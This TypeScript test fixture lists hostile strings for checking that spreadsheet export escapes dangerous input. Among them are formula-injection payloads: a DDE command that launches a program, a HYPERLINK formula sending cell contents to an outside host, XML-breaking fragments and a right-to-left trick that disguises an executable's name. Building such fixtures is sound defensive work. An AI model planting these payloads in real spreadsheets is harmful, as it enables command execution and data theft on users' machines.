/** Texts that may be misread in a spreadsheet, in its XML, or by people. */
export const hostileTexts: readonly string[] = [
  '=1+1',
  '+1+1',
  '-1+1',
  '@SUM(A1:A9)',
  '\t=1+1',
  '\r=1+1',
  '\n=1+1',
  '＝1+1',
  "=cmd|' /C calc'!A0",
  '=HYPERLINK("https://example.com?"&A1,"text")',
  '"=1+1"',
  "'=1+1",
  'line\r\nbreak\ttab',
  '\u0000\u0001\u0008\u000b\u001b\u007f\u0085',
  '_x0041_ _x000D_ _x005F_x0041_',
  '\ud83d lone \udc33',
  '\ufffe\uffff',
  '<v>1</v></c><c t="str"><f>1+1</f></c>]]>&lt;&#0;',
  '&amp;"quoted"\'single\'',
  '🐳👩‍👩‍👧‍👦é',
  '\u202egnp.exe\u202c \u200f\u061c',
  '  leading and trailing  ',
  '007',
  '1e5',
  '2025-06-06',
  'TRUE',
  '=1+1;'.repeat(8_000),
];

/** The most characters that a cell may contain. */
const maxCharacters = 32_767;

/**
 * A text as it is read back from a cell: characters that a file cannot contain are replaced, a text that is too long
 * ends in `…`, and the reader turns `\r\n` into `\n`.
 */
export const inCell = (text: string): string =>
  (text.length > maxCharacters ? `${text.slice(0, maxCharacters - 1)}…` : text).toWellFormed().replaceAll('\r\n', '\n');
